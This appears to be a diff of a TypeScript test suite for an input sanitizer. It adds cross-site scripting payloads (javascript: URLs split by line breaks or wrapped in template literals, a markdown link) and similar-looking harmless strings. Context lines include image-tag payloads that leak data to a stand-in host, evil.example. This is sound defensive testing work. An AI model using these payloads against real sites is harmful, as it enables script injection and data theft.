@@ -31,6 +31,12 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "<img src='//evil.example/?",
     '"><img src=\'//evil.example/?x=',
   ],
+  'a script URL with breaks, which browsers drop, or in a template literal': [
+    'javascript:\n\nalert(1)',
+    'javascript:`${alert(1)}`',
+    'javascript:\n\n```js${alert(1)}`',
+    'javascript:\n\n```x``` [x](javascript:alert(1))',
+  ],
   'a string that is closed behind a sentence': [
     "Thanks, it's fine and we will come on Monday at ten, as you said in your letter. ';alert(1)//",
     'Thanks, we will come on Monday at ten, as you have said in your last letter to us. "-alert(1)-"',
@@ -54,6 +60,8 @@ describe('a value that acts in a page or in an object', () => {
 
 const HARMLESS: readonly string[] = [
   'JavaScript:\n\n```js\nlet a = 1\n```',
+  'In JavaScript:\n\n```js\nalert(1)\n```',
+  'It is parsed as `javascript:`. It then shows alert(x) to the user, as before',
   "D'><U%P*AQ+Ij:Ku",
   'a[href^="http"]{background:url(icon.png)}',
   'the prototype of a constructor',
